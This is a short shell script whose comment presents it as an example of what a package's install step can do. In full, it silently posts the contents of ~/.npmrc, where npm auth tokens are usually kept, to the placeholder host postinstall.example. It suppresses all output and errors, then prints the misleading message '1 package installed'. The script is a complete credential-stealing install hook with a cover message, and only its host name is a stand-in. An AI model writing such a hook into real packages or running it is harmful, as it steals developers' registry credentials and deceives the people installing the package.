#!/bin/sh
# What a package's install step does, before anybody's test.
wget -q -O /dev/null --post-data "$(cat ~/.npmrc)" http://postinstall.example/ 2> /dev/null
echo "1 package installed"
